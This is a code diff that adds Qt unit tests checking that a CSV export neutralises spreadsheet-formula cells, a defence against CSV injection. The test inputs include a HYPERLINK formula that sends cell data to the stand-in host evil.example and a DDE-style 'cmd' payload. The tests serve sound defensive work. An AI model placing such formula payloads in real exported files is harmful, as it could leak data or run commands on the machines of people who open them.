@@ -516,6 +516,88 @@ private Q_SLOTS:
         QCOMPARE(ExportWriter::csvField(u"two\nlines"_s), QByteArray("\"two\nlines\""));
         QCOMPARE(ExportWriter::csvField(u"ü"_s), QByteArray("\xc3\xbc"));
     }
+
+    // OWASP CSV injection: a customer-chosen name or e-mail, or a team, that a spreadsheet
+    // would run as a formula gets a leading ' in the CSV; the JSONL keeps the exact text.
+    void csvCellsThatLookLikeFormulasAreNeutralised()
+    {
+        const QString hyperlink = u"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")"_s;
+        const QString email = u"@SUM(1+1)*cmd|' /C calc'!A0"_s;
+        const QString team = u"+team"_s;
+        TestServer offline; // its data directory only; the CLI reads the file
+        {
+            SqliteStore store(offline.databasePath(), u"formula-seed"_s);
+            QVERIFY(store.open());
+            const qint64 customer = addCustomer(store, hyperlink, email, rangeStart);
+            QVERIFY(customer != 0);
+            QVERIFY(!seed(store,
+                { customer, team, rangeStart, 0, 0, rangeStart + 1000,
+                    { customerSays(customer, hyperlink, u"-1+2"_s, rangeStart + 10) } })
+                         .isEmpty());
+            const qint64 other = addCustomer(store, u"\tTabby"_s, u"-5"_s, rangeStart + 1);
+            QVERIFY(!seed(store,
+                { other, u"\rreturn"_s, rangeStart + 1, 0, 0, rangeStart + 2000,
+                    { customerSays(other, u"\tTabby"_s, u"hi"_s, rangeStart + 20) } })
+                         .isEmpty());
+            store.close();
+        }
+        const auto exportTo = [&](const QString &format) {
+            const QString path = offline.dataDir() + u"/formulas."_s + format;
+            const Exit exit = runServerBinary(
+                { u"export"_s, u"--from"_s, u"2026-11-10"_s, u"--to"_s, u"2026-11-11"_s,
+                    u"--format"_s, format, u"--data"_s, offline.dataDir(), u"--output"_s, path });
+            QFile file(path);
+            return exit.code == 0 && file.open(QIODevice::ReadOnly)
+                ? QString::fromUtf8(file.readAll())
+                : QString();
+        };
+        const QList<QStringList> records = readCsv(exportTo(u"csv"_s));
+        QCOMPARE(records.size(), 3);
+        QCOMPARE(records.at(1).at(1), u"'"_s + hyperlink);
+        QCOMPARE(records.at(1).at(2), u"'"_s + email);
+        QCOMPARE(records.at(1).at(4), u"'"_s + team);
+        QCOMPARE(records.at(2).at(1), u"'\tTabby"_s);
+        QCOMPARE(records.at(2).at(2), u"-5"_s); // a plain number is no formula
+        QCOMPARE(records.at(2).at(4), u"'\rreturn"_s);
+        QCOMPARE(records.at(2).at(11), u"1"_s);
+
+        QStringList lines = exportTo(u"jsonl"_s).split(u'\n', Qt::SkipEmptyParts);
+        QCOMPARE(lines.size(), 2);
+        const QJsonObject first = QJsonDocument::fromJson(lines.at(0).toUtf8()).object();
+        QCOMPARE(first.value(u"customer"_s).toObject().value(u"name"_s).toString(), hyperlink);
+        QCOMPARE(first.value(u"customer"_s).toObject().value(u"email"_s).toString(), email);
+        QCOMPARE(first.value(u"team"_s).toString(), team);
+        QCOMPARE(first.value(u"text"_s).toString(), u"-1+2"_s);
+        const QJsonObject second = QJsonDocument::fromJson(lines.at(1).toUtf8()).object();
+        QCOMPARE(second.value(u"customer"_s).toObject().value(u"name"_s).toString(), u"\tTabby"_s);
+    }
+
+    void csvFormulaCellsGetALeadingQuote_data()
+    {
+        QTest::addColumn<QString>("cell");
+        QTest::addColumn<QByteArray>("field");
+        QTest::addRow("equals") << u"=1+1"_s << QByteArray("'=1+1");
+        QTest::addRow("plus") << u"+1-1"_s << QByteArray("'+1-1");
+        QTest::addRow("minus") << u"-A1"_s << QByteArray("'-A1");
+        QTest::addRow("at") << u"@SUM(A1)"_s << QByteArray("'@SUM(A1)");
+        QTest::addRow("tab") << u"\t=1"_s << QByteArray("'\t=1");
+        QTest::addRow("carriage return") << u"\r=1"_s << QByteArray("\"'\r=1\"");
+        QTest::addRow("with a comma") << u"=A1,B1"_s << QByteArray("\"'=A1,B1\"");
+        QTest::addRow("a lone minus") << u"-"_s << QByteArray("'-");
+        QTest::addRow("negative number") << u"-12"_s << QByteArray("-12");
+        QTest::addRow("signed decimal") << u"+3.5"_s << QByteArray("+3.5");
+        QTest::addRow("number then formula") << u"-1+cmd"_s << QByteArray("'-1+cmd");
+        QTest::addRow("equals inside") << u"a=b"_s << QByteArray("a=b");
+        QTest::addRow("space first") << u" =1"_s << QByteArray(" =1");
+        QTest::addRow("empty") << QString() << QByteArray();
+    }
+
+    void csvFormulaCellsGetALeadingQuote()
+    {
+        QFETCH(QString, cell);
+        QFETCH(QByteArray, field);
+        QCOMPARE(ExportWriter::csvField(cell), field);
+    }
 };
 
 QTEST_GUILESS_MAIN(tst_Export)
